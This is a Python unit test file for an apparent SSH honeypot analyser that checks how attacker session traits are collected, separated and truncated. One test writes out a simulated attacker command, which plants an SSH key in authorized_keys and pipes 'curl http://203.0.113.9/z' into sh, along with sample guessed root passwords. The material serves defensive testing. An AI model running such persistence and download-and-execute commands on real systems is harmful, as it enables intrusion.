"""What is collected of a session, to be compared."""

from __future__ import annotations

import base64
import hashlib

from mirage.analysis.traits import KINDS, MAX_EACH, MAX_LINES, MAX_TEXT, MAX_VALUE, Traits, traits_of
from mirage.base.events import ArtifactCaptured, LineEntered, LoginAttempted
from tests.unit.evidence.samples import SESSION, SOURCE, envelopes, whole_session


def test_a_session_is_collected_whole() -> None:
    blob = bytes(range(60))
    key = b"ssh-ed25519 AAAA" + base64.b64encode(blob)
    events = [
        *whole_session(),
        (8.0, LineEntered(text=b"echo '" + key + b" x' >> .ssh/authorized_keys; curl http://203.0.113.9/z|sh", mode="exec")),
        (9.0, ArtifactCaptured(sha256="cd" * 32, size=4096, origin="download", path=b"/tmp/y", url=b"http://203.0.113.9/big")),
    ]
    written = [each for each in envelopes(events) if type(each.event).__name__ in KINDS]
    fingerprint = "SHA256:" + base64.b64encode(hashlib.sha256(base64.b64decode(key[12:])).digest()).decode().rstrip("=")
    assert traits_of(written) == [
        Traits(
            session=SESSION, source=SOURCE, opened=written[0].time, last=written[-1].time,
            lines=("ls", "nosuch 'a b'", events[-2][1].text.decode()),  # type: ignore[attr-defined]
            credentials=frozenset(["root/123456", "root/toor\\xff"]), keys=frozenset(["SHA256:abc", fingerprint]),
            hassh="ec7378c1a92f5a8dde7e8b7a1ddf33d1", artifacts=frozenset(["cd" * 32]),  # three bytes are nobody's
            urls=frozenset(["http://203.0.113.9/x", "http://203.0.113.9/z", "http://203.0.113.9/big"]),
        )
    ]  # fmt: skip


def test_sessions_at_once_are_kept_apart_and_what_belongs_to_none_is_left_out() -> None:
    one, other = (envelopes([(0, LineEntered(text=text, mode="exec"))], session=text.decode()) for text in (b"a", b"b"))
    assert [(each.session, each.lines) for each in traits_of([*one, *other, *one])] == [("a", ("a",)), ("b", ("b",))]
    assert traits_of(envelopes([(0, LineEntered(text=b"x", mode="exec"))], session="")) == []


def test_a_list_of_passwords_without_end_is_cut() -> None:
    guesses = [
        (n / 10, LoginAttempted(method="password", username=b"r", accepted=False, password=b"%d" % n)) for n in range(MAX_EACH + 9)
    ]
    assert len(traits_of(envelopes(guesses))[0].credentials) == MAX_EACH


def test_lines_and_values_without_end_are_cut() -> None:
    long = [(n, LineEntered(text=b"%d " % n + b"x" * 10**6, mode="exec")) for n in range(99)]
    guess = LoginAttempted(method="password", username=b"r", accepted=False, password=b"p" * 10**6)
    (found,) = traits_of(envelopes([*long, (100, guess)]))
    assert [len(line) for line in found.lines] == [MAX_TEXT] * (MAX_LINES // MAX_TEXT)
    assert [len(each) for each in found.credentials] == [MAX_VALUE]
